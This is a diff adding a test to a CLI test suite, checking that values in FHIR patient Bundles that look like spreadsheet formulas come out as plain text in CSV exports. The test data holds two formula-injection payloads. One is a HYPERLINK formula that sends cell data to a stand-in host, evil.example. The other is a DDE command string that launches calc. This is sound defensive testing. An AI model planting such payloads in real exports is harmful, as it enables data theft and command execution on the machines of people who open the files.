@@ -149,6 +149,22 @@ describe('a folder of Bundles (every golden case, one patient each)', () => {
     expect(rows.find((r) => r.includes(',B-MISSED,'))).toContain(',warning,36.74,');
   });
 
+  it('--format csv: FHIR values that look like formulas (unresolved encounter references) are written as text', async () => {
+    const bundle = readJson(join(CASES_DIR, 'acro-2-prostate-imrt-stereoscopic.bundle.json')) as unknown as {
+      entry: { resource: { resourceType: string; encounter?: { reference: string } } }[];
+    };
+    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0"];
+    bundle.entry
+      .filter(({ resource }) => resource.resourceType === 'Procedure' && resource.encounter)
+      .forEach(({ resource }, i) => (resource.encounter!.reference = hostile[i % 2]!));
+    const dir = tempDir();
+    writeFileSync(join(dir, 'hostile.json'), JSON.stringify(bundle));
+    const result = await cli(['evaluate', dir, '--format', 'csv']);
+    expect(result.stdout).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",`);
+    expect(result.stdout).toContain(`,'+cmd|' /C calc'!A0,`);
+    expect(result.stdout).not.toMatch(/(^|,)"?[=+]/m);
+  });
+
   it('--out FILE writes the output there', async () => {
     const dir = copyInto(tempDir(), FILES.slice(0, 2));
     const out = join(tempDir(), 'out.ndjson');
